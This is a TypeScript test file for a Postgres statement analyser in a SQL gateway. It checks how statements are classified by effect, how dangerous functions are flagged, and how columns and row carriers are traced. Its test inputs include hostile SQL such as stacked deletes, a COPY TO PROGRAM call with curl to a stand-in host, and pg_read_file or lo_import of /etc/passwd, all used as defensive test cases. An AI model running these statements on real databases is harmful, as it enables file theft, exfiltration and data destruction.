import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { isGatewayError } from '../../../shared/errors.js';
import { analyseStatement } from '../../../shared/sql/analyse.js';
import { analysePostgres } from '../../../shared/sql/postgres.js';
import { rowsPerCopy } from '../../../shared/sql/row-carriers.js';

const facts = (sql: string) => analysePostgres(sql);

async function rejectsWith(sql: string, code: string): Promise<void> {
  await assert.rejects(facts(sql), (e: unknown) => isGatewayError(e) && e.code === code);
}

describe('postgres effect (bypass classes)', () => {
  const cases: [string, string][] = [
    ['select 1; delete from customers', 'write'],
    ['with x as (delete from orders returning *) select * from x', 'write'],
    [
      'with x as (select 1) select * from (with y as (update t set a = 1 returning a) select * from y) s',
      'write',
    ],
    ['select * into new_table from customers', 'ddl'],
    ["copy customers to program 'curl evil'", 'admin'],
    ["copy customers to '/tmp/x.csv'", 'admin'],
    ['copy customers to stdout', 'admin'],
    ['explain analyze delete from orders', 'write'],
    ['explain select * from orders', 'read'],
    ['do $$ begin perform 1; end $$', 'exec'],
    ['prepare p as select 1', 'exec'],
    ['execute p', 'exec'],
    ['deallocate p', 'exec'],
    ['call refresh_all()', 'exec'],
    ["create function f() returns int language sql as 'select 1'", 'exec'],
    ['select * from customers for update', 'write'],
    ['select * from (select * from customers for share) s', 'write'],
    ['set role admin', 'admin'],
    ['set session authorization postgres', 'admin'],
    ['reset all', 'admin'],
    ['begin', 'admin'],
    ['commit', 'admin'],
    ['rollback', 'admin'],
    ['listen x', 'admin'],
    ["notify x, 'y'", 'admin'],
    ['lock table customers', 'admin'],
    ['vacuum customers', 'admin'],
    ['grant select on customers to public', 'admin'],
    ["alter system set work_mem = '1GB'", 'admin'],
    ["load 'plpgsql'", 'admin'],
    ['checkpoint', 'admin'],
    ['create table t (a int)', 'ddl'],
    ['drop table customers', 'ddl'],
    ['truncate customers', 'ddl'],
    ['insert into t select * from customers', 'write'],
    ['show work_mem', 'read'],
    ['select 1 -- ; drop table x', 'read'],
    ['select $$;delete from orders$$', 'read'],
    ["select 'a;delete from orders'", 'read'],
  ];
  for (const [sql, effect] of cases) {
    it(`${sql} -> ${effect}`, async () => {
      assert.equal((await facts(sql)).effect, effect);
    });
  }

  it('counts stacked statements and names their kinds', async () => {
    const f = await facts('select 1; delete from customers');
    assert.equal(f.statementCount, 2);
    assert.deepEqual(f.statementKinds, ['SelectStmt', 'DeleteStmt']);
  });

  it('comment-split keywords do not parse', async () => {
    await rejectsWith('sel/**/ect 1', 'unparseable_statement');
  });

  it('SELECT INTO sets into', async () => {
    const f = await facts('select * into new_table from customers');
    assert.equal(f.into, true);
    assert.ok(f.tables.includes('public.new_table'));
  });
});

describe('postgres dangerous functions', () => {
  const cases: [string, string][] = [
    ["select pg_read_file('/etc/passwd')", 'pg_read_file'],
    ["select pg_catalog.pg_read_file('x')", 'pg_catalog.pg_read_file'],
    ["select PG_READ_FILE('x')", 'pg_read_file'],
    ['select "PG_READ_FILE"(\'x\')', 'pg_read_file'],
    ["select * from (select pg_read_binary_file('x')) s", 'pg_read_binary_file'],
    ["select case when true then pg_ls_dir('.') end", 'pg_ls_dir'],
    ["select pg_stat_file('x')", 'pg_stat_file'],
    ["select lo_import('/etc/passwd')", 'lo_import'],
    ["select lo_export(1, '/tmp/x')", 'lo_export'],
    ['select lo_get(1)', 'lo_get'],
    ["select lo_put(1, 0, 'x')", 'lo_put'],
    ["select lo_from_bytea(0, 'x')", 'lo_from_bytea'],
    ["select * from dblink('host=x', 'select 1') as t(a int)", 'dblink'],
    ["select dblink_exec('x', 'drop table y')", 'dblink_exec'],
    ["select dblink_connect('x')", 'dblink_connect'],
    ["select set_config('role', 'admin', false)", 'set_config'],
    ['select pg_sleep(10)', 'pg_sleep'],
    ["select pg_sleep_for('1 minute')", 'pg_sleep_for'],
    ['select pg_sleep_until(now())', 'pg_sleep_until'],
    ['select pg_terminate_backend(1)', 'pg_terminate_backend'],
    ['select pg_cancel_backend(1)', 'pg_cancel_backend'],
    ['select pg_reload_conf()', 'pg_reload_conf'],
    ['select pg_rotate_logfile()', 'pg_rotate_logfile'],
    ["select query_to_xml('delete from t', true, true, '')", 'query_to_xml'],
    ["select query_to_xml_and_xmlschema('select 1', true, true, '')", 'query_to_xml_and_xmlschema'],
    ["select table_to_xml('t', true, true, '')", 'table_to_xml'],
    ["select cursor_to_xml('c', 1, true, true, '')", 'cursor_to_xml'],
    ["select database_to_xml(true, true, '')", 'database_to_xml'],
    ["select schema_to_xml('public', true, true, '')", 'schema_to_xml'],
    ['select pg_advisory_lock(1)', 'pg_advisory_lock'],
    ['select 1 from customers where id in (select pg_sleep(1))', 'pg_sleep'],
    ['select 1 from customers c, lateral (select pg_sleep(1)) s', 'pg_sleep'],
    ['values (pg_sleep(1))', 'pg_sleep'],
    ['select coalesce(null, pg_sleep(1)::text)', 'pg_sleep'],
  ];
  for (const [sql, name] of cases) {
    it(`${sql} flags ${name}`, async () => {
      assert.ok((await facts(sql)).dangerousFunctions.includes(name));
    });
  }

  it('ordinary functions are recorded but not dangerous', async () => {
    const f = await facts("select upper(email), current_setting('x'), count(*) from customers");
    assert.deepEqual(f.functions, ['count', 'current_setting', 'upper']);
    assert.deepEqual(f.dangerousFunctions, []);
  });
});

describe('postgres facts', () => {
  it('counts the rows of each table one result row may carry (round 23)', async () => {
    const cases: Array<[string, Record<string, number>]> = [
      ['select * from customers', { 'public.customers': 1 }],
      ['select a.id, b.id from customers a join customers b on b.id = a.id + 1', { 'public.customers': 2 }],
      ['select id from customers union all select id from customers', { 'public.customers': 1 }],
      ['with x as (select * from customers) select * from x a, x b', { 'public.customers': 2 }],
      ['with x as (select * from customers) select 1', {}],
      [
        'select (select city from customers d where d.id = c.id + 1), (select 1 from orders) from customers c',
        { 'public.customers': 2, 'public.orders': 1 },
      ],
      [
        'with recursive r(n) as (select 1 union all select n + 1 from r, orders where n < 5) select * from r, r r2',
        { 'public.orders': 2 },
      ],
    ];
    for (const [sql, reads] of cases) assert.deepEqual((await facts(sql)).tableReads, reads, sql);
  });

  it('counts the calls that may give a row another row’s value (rounds 25 and 26)', async () => {
    const cases: Array<
      [string, { aggregates: number; windows: number; numberings?: number; summaries?: number }]
    > = [
      [
        'select city, count(*), sum(id), avg(id * 1.5), count(distinct email) from customers group by city',
        { aggregates: 0, windows: 0 },
      ],
      [
        'select max(city) filter (where id % 2 = 0), pg_catalog.min(city) from customers',
        { aggregates: 2, windows: 0 },
      ],
      [
        // A named window is not looked up: its numbering counts as a window too.
        'select id, lag(city) over w, lead(city, 2) over w, row_number() over w from customers window w as (order by id)',
        { aggregates: 0, windows: 3 },
      ],
      [
        'select first_value(city) over (), nth_value(city, 3) over () from customers',
        { aggregates: 0, windows: 2 },
      ],
      [
        'select id / 100, sum(amount) filter (where id % 100 = 1), avg(amount) from orders group by 1',
        { aggregates: 1, windows: 0 },
      ],
      [
        'select count(*) over (), rank() over (order by id), sum(id) over (rows between 1 following and 1 following) from orders',
        { aggregates: 0, windows: 1, numberings: 2 },
      ],
      // A count over a frame of one row, with a FILTER, with an argument, or over an
      // expression's partition is a bit of other rows (red-team round 32); so is a rank
      // without OVER, and a percentile picks a row.
      [
        "select count(*) filter (where city = 'x') over (order by id), count(*) over (order by id rows between 1 following and 1 following), count(city) over (), row_number() over (partition by city = 'x'), ntile(4) over (order by id), row_number() over w from customers window w as (order by id)",
        { aggregates: 0, windows: 5, numberings: 1 },
      ],
      [
        'select rank(3) within group (order by id), percentile_cont(0.5) within group (order by id), percentile_disc(0.5) within group (order by id) from orders',
        { aggregates: 3, windows: 0 },
      ],
      // A derived table's expression column is not a plain argument, nor a plain window key
      // (red-team round 34); its plain column is, through any number of levels.
      [
        "select count(a), bool_or(b), count(c) from (select case when id = 1 then 1 end a, id = 2 and city = 'x' b, city c from customers) t",
        { aggregates: 2, windows: 0 },
      ],
      [
        "select count(*) over (partition by g order by id) from (select id, city = 'x' g from customers) t",
        { aggregates: 0, windows: 1 },
      ],
      [
        'select count(city), row_number() over (partition by city order by id) from (select * from (select id, city from customers) u) t group by city, id',
        { aggregates: 0, windows: 0, numberings: 1 },
      ],
      // Narrowed inputs: a filter, a condition, two columns, an indicator built of arithmetic.
      [
        'select city, count(*) filter (where id = 7) from customers group by city',
        { aggregates: 1, windows: 0 },
      ],
      [
        // A second moment of two columns holds two terms of its group (red-team round 37).
        'select regr_slope(amount, case when id = 3 then 1 else 0 end), corr(amount, id) from orders',
        { aggregates: 6, windows: 0 },
      ],
      ['select sum(amount * (1 - sign(abs(id - 3)))) from orders', { aggregates: 1, windows: 0 }],
      ['select sum(amount * (id / 3)) from orders', { aggregates: 1, windows: 0 }],
    ];
    for (const [sql, n] of cases) {
      const got: Record<string, number | undefined> = { ...(await facts(sql)).rowCarriers };
      if (!('summaries' in n)) delete got.summaries;
      assert.deepEqual(got, n, sql);
    }
    // A plain summary carries no row alone; beside a selecting aggregate it carries one more
    // (min and sum of a pair are both its values: red-team round 35).
    const pair = (await facts('select id / 2, min(amount), sum(amount) from orders group by 1')).rowCarriers;
    assert.deepEqual(pair, { aggregates: 1, windows: 0, summaries: 1 });
    assert.equal(rowsPerCopy(pair), 2);
    assert.equal(
      rowsPerCopy(
        (await facts('select id / 2, sum(amount), avg(amount) from orders group by 1')).rowCarriers,
      ),
      1,
    );
    // A second moment of two columns holds two terms of its group (red-team round 37).
    const moments = await facts(
      'select (id - 1) / 3, var_samp(id * 1000 + extract(hour from created_at)) from orders group by 1',
    );
    assert.equal(rowsPerCopy(moments.rowCarriers), 2);
  });

  it('qualifies tables, respects aliases and schemas, excludes CTE names', async () => {
    const f = await facts(
      'with recent as (select * from orders) select c.email from sales.customers c join recent r on r.cid = c.id',
    );
    assert.deepEqual(f.tables, ['public.orders', 'sales.customers']);
    assert.deepEqual(f.columns['sales.customers'], ['email', 'id']);
    assert.deepEqual(f.columns['public.orders'], ['*', 'cid']);
  });

  it('lower-cases quoted names and honours defaultSchema', async () => {
    const quoted = await facts('select 1 from "public"."Customers"');
    assert.deepEqual(quoted.tables, ['public.customers']);
    const other = await analysePostgres('select 1 from customers', { defaultSchema: 'App' });
    assert.deepEqual(other.tables, ['app.customers']);
  });

  it('a schema-qualified name is not a CTE of the same name', async () => {
    const f = await facts('with customers as (select 1 as a) select * from public.customers, customers');
    assert.deepEqual(f.tables, ['public.customers']);
    assert.deepEqual(f.starTables, ['public.customers']);
  });

  it('finds tables in subqueries, DML targets and EXISTS', async () => {
    const f = await facts('delete from orders o where exists (select 1 from customers c where c.id = o.cid)');
    assert.deepEqual(f.tables, ['public.customers', 'public.orders']);
    assert.ok(f.hasWhere);
    assert.deepEqual(f.predicateColumns, ['public.customers.id', 'public.orders.cid']);
  });

  it('functions used as tables are functions, not tables', async () => {
    const f = await facts('select * from generate_series(1, 3) g');
    assert.deepEqual(f.tables, []);
    assert.deepEqual(f.functions, ['generate_series']);
  });

  it('attaches unqualified columns to the only table, ambiguous ones to every table', async () => {
    const single = await facts('select email from customers');
    assert.deepEqual(single.columns, { 'public.customers': ['email'] });
    const ambiguous = await facts('select note from customers c join orders o on o.cid = c.id');
    assert.ok(ambiguous.columns['public.customers'].includes('note'));
    assert.ok(ambiguous.columns['public.orders'].includes('note'));
  });

  it('records star tables for * and t.*', async () => {
    const f = await facts('select c.*, o.id from customers c join orders o on o.cid = c.id');
    assert.equal(f.selectStar, true);
    assert.deepEqual(f.starTables, ['public.customers']);
    const plain = await facts('select * from customers, orders');
    assert.deepEqual(plain.starTables, ['public.customers', 'public.orders']);
    assert.equal((await facts('select count(*) from customers')).selectStar, false);
  });

  it('a * over what names its own columns (subquery, CTE, VALUES, function) is no SELECT * of a table', async () => {
    for (const sql of [
      'select * from generate_series(1, 3)',
      'select * from (values (1), (2)) v(x)',
      'with t as (select 1 as x) select * from t',
      'with t as (select id, city from customers) select * from t',
      'select s.* from (select id from customers) s',
    ]) {
      const f = await facts(sql);
      assert.equal(f.selectStar, false, sql);
      assert.deepEqual(f.starTables, [], sql);
    }
    // A table's * inside one still counts, wherever it is.
    for (const sql of [
      'with t as (select * from customers) select * from t',
      'select count(*) from (select * from orders) s',
      'select x.id from (select c.* from customers c) x',
    ]) {
      assert.equal((await facts(sql)).selectStar, true, sql);
    }
  });

  it('reads constant LIMIT and FETCH FIRST, not LIMIT ALL or parameters', async () => {
    assert.equal((await facts('select * from t limit 10')).limit, 10);
    assert.equal((await facts('select * from t fetch first 5 rows only')).limit, 5);
    assert.equal((await facts('select * from t limit 0')).limit, 0);
    assert.equal((await facts('select * from t limit all')).limit, null);
    assert.equal((await facts('select * from t limit $1')).limit, null);
    assert.equal((await facts('select * from t')).limit, null);
  });

  it('tells trivially true WHERE clauses apart from real filters', async () => {
    const trivial = [
      'true',
      '1=1',
      "'a'='a'",
      'id = 5 or 1=1',
      'not false',
      '1<2',
      'id = id',
      "'t'::boolean",
      '(1=1) and true',
    ];
    for (const where of trivial) {
      const f = await facts(`select * from customers where ${where}`);
      assert.equal(f.whereTriviallyTrue, true, where);
      assert.equal(f.hasWhere, true, where);
    }
    for (const where of ['id = 5', '1=1 and id = 5', 'id = $1 or email = $2', '1=2', 'false or id > 3']) {
      assert.equal((await facts(`select * from customers where ${where}`)).whereTriviallyTrue, false, where);
    }
    assert.equal((await facts('select * from customers')).hasWhere, false);
    assert.equal((await facts('update customers set a = 1 where 1=1')).whereTriviallyTrue, true);
  });

  it('collects predicate columns from WHERE, JOIN, USING, GROUP BY, HAVING, ORDER BY and windows', async () => {
    const f = await facts(
      'select c.region, rank() over (partition by c.segment order by c.score) ' +
        'from customers c join orders o on o.cid = c.id join items i using (sku) ' +
        'where c.active group by c.region having count(o.total) > 1 order by c.name',
    );
    for (const column of [
      'public.customers.active',
      'public.customers.region',
      'public.customers.segment',
      'public.customers.score',
      'public.customers.name',
      'public.customers.id',
      'public.orders.cid',
      'public.orders.total',
      'public.items.sku',
    ]) {
      assert.ok(f.predicateColumns.includes(column), column);
    }
    assert.ok(!f.predicateColumns.includes('public.customers.email'));
  });

  it('ORDER BY an output alias or position sorts by its source columns', async () => {
    const f = await facts('select upper(email) as e, id from customers order by e, 2');
    assert.deepEqual(f.predicateColumns, ['public.customers.email', 'public.customers.id']);
    assert.ok(!f.columns['public.customers'].includes('e'));
  });

  it('names outputs like Postgres and traces their sources', async () => {
    const f = await facts(
      "select upper(c.card_number) as x, c.card_number || '', c.email, count(*), 1::int, 'a'::text, " +
        'case when c.vip then 1 end, (select max(o.total) from orders o where o.cid = c.id) from customers c',
    );
    assert.deepEqual(f.outputs, [
      { name: 'x', sources: ['public.customers.card_number'], direct: false },
      { name: '?column?', sources: ['public.customers.card_number'], direct: false },
      { name: 'email', sources: ['public.customers.email'], direct: true },
      { name: 'count', sources: [], direct: false },
      { name: 'int4', sources: [], direct: false },
      { name: 'text', sources: [], direct: false },
      { name: 'case', sources: ['public.customers.vip'], direct: false },
      { name: 'max', sources: ['public.orders.total'], direct: false },
    ]);
  });

  it('follows outputs through a subquery and a CTE in FROM', async () => {
    const sub = await facts('select s.e, s.n from (select lower(email) as e, name n from customers) s');
    assert.deepEqual(sub.outputs, [
      { name: 'e', sources: ['public.customers.email'], direct: true },
      { name: 'n', sources: ['public.customers.name'], direct: true },
    ]);
    const cte = await facts(
      'with k as (select card_number from customers) select right(card_number, 4) from k',
    );
    assert.deepEqual(cte.outputs, [
      { name: 'right', sources: ['public.customers.card_number'], direct: false },
    ]);
  });

  it('expands * into one output per star table', async () => {
    const f = await facts('select * from customers c join orders o on o.cid = c.id');
    assert.deepEqual(f.outputs, [
      { name: '*', sources: ['public.customers.*'], direct: true },
      { name: '*', sources: ['public.orders.*'], direct: true },
    ]);
  });

  it('counts parameters and keeps them out of facts', async () => {
    const f = await facts('select email from customers where id = $1 and region = $2');
    assert.equal(f.paramCount, 2);
    assert.equal(f.whereTriviallyTrue, false);
  });
});

describe('postgres fingerprint', () => {
  it('is stable across whitespace, comments, keyword case and constants', async () => {
    const a = await facts('select email from customers where id = 1 limit 10');
    const b = await facts('SELECT  email\n FROM customers /* hi */ WHERE id = 42 -- x\n LIMIT 5');
    assert.match(a.fingerprint, /^[0-9a-f]{64}$/);
    assert.equal(a.fingerprint, b.fingerprint);
  });

  it('differs for a different table, column or parameter', async () => {
    const base = (await facts('select email from customers where id = $1')).fingerprint;
    assert.notEqual(base, (await facts('select email from orders where id = $1')).fingerprint);
    assert.notEqual(base, (await facts('select name from customers where id = $1')).fingerprint);
    assert.notEqual(base, (await facts('select email from customers where id = $2')).fingerprint);
  });
});

describe('postgres refusals', () => {
  it('a statement nested deeper than the analysis can walk is refused, not a crash', async () => {
    // Red-team round 11: `select 1+1+...+1` of a few thousand terms was a 500 (stack overflow).
    for (const engine of ['postgres', 'tsql'] as const) {
      const sql = `select ${Array(8000).fill('1').join('+')}`;
      await assert.rejects(
        analyseStatement(engine, sql, {}),
        (e: unknown) =>
          isGatewayError(e) && (e.code === 'statement_refused' || e.code === 'unparseable_statement'),
        engine,
      );
    }
    assert.equal(
      (await analyseStatement('postgres', `select ${Array(50).fill('1').join('+')}`)).effect,
      'read',
    );
  });

  it('unparseable input names the position', async () => {
    await assert.rejects(
      facts('select from where'),
      (e: unknown) =>
        isGatewayError(e) && e.code === 'unparseable_statement' && /position \d+/.test(e.message),
    );
  });

  it('does not echo huge input in the error', async () => {
    const huge = `select 1 from '${'x'.repeat(50_000)}'`;
    await assert.rejects(facts(huge), (e: unknown) => isGatewayError(e) && e.message.length < 400);
  });

  it('empty and comment-only statements are unparseable', async () => {
    await rejectsWith('', 'unparseable_statement');
    await rejectsWith('   ', 'unparseable_statement');
    await rejectsWith('-- nothing', 'unparseable_statement');
  });

  it('refuses statements over 100 KB', async () => {
    await rejectsWith(`select 1 ${' '.repeat(100 * 1024)}`, 'statement_refused');
  });

  it('unknown statement kinds fail closed as admin', async () => {
    assert.equal((await facts('discard all')).effect, 'admin');
    assert.equal((await facts('create role x')).effect, 'admin');
  });

  it('analyseStatement dispatches by engine', async () => {
    assert.equal((await analyseStatement('postgres', 'select 1')).engine, 'postgres');
    assert.equal((await analyseStatement('tsql', 'select 1')).engine, 'tsql');
  });
});
